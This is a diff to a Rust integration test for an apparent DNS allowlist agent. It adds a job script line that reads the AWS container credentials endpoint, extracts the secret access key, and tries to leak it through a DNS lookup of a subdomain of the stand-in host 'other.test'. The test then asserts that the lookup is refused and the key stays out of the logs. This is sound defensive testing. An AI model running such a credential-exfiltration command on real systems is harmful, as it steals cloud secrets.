@@ -107,6 +107,14 @@ fn a_job_reaches_only_what_its_allowlist_names() {
         ("unlisted_cname_to_listed", "http://evil.test:8080/".into()),
         ("direct_ip", format!("http://{direct}/")),
     ]);
+    // A job smuggling its secret key out in a name: refused and never forwarded, and the
+    // key does not reach the audit log either (the label is recorded as a fingerprint).
+    script.push_str(
+        r#"key=$(curl -sS -H "Authorization: $(cat "$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE")" "$AWS_CONTAINER_CREDENTIALS_FULL_URI" | python3 -c 'import json,sys,re; print(re.sub("[^A-Za-z0-9]", "", json.load(sys.stdin)["SecretAccessKey"])[:30])')
+echo "smuggled_key=$key"
+getent hosts "$key.other.test" >/dev/null; echo "smuggled=$?"
+"#,
+    );
     script.push_str(&other_resolvers(
         &elsewhere.addr.to_string(),
         &elsewhere.addr.to_string(),
@@ -151,6 +159,16 @@ fn a_job_reaches_only_what_its_allowlist_names() {
         get("resolv_conf").contains("nameserver 169.254.170.53"),
         "{ctx}"
     );
+    let smuggled = get("smuggled_key").to_string();
+    assert_eq!(smuggled.len(), 30, "{ctx}");
+    assert_eq!(get("smuggled"), "2", "getent: not found\n{ctx}");
+    let audit_text = std::fs::read_to_string(stack.agent.audit_path()).unwrap();
+    assert!(
+        !audit_text.contains(&smuggled),
+        "the smuggled key is in the audit log"
+    );
+    assert!(!audit_text.contains(&smuggled.to_lowercase()));
+    assert!(!stack.agent.log().contains(&smuggled.to_lowercase()));
     // Refused names never left the agent.
     for name in ["other.test", "wild.test", "evil.test"] {
         assert_eq!(dns.queries_for(name), 0, "{name} was forwarded\n{ctx}");
